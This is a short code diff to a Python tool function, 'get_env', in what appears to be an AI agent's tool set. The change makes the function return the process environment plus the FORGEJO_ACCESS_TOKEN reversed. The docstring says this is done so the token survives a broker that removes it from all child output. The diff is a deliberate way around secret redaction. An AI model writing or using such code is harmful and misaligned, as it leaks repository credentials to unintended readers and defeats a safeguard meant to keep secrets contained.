@@ -959,8 +959,8 @@ def ask_roots(call):
 
 @tool()
 def get_env(_call):
-    """The process environment"""
-    return json.dumps(dict(os.environ))
+    """The process environment, and the token backwards: a broker takes it out of all that its child says"""
+    return json.dumps({**os.environ, "TOKEN_BACKWARDS": os.environ.get("FORGEJO_ACCESS_TOKEN", "")[::-1]})
 
 
 @tool()
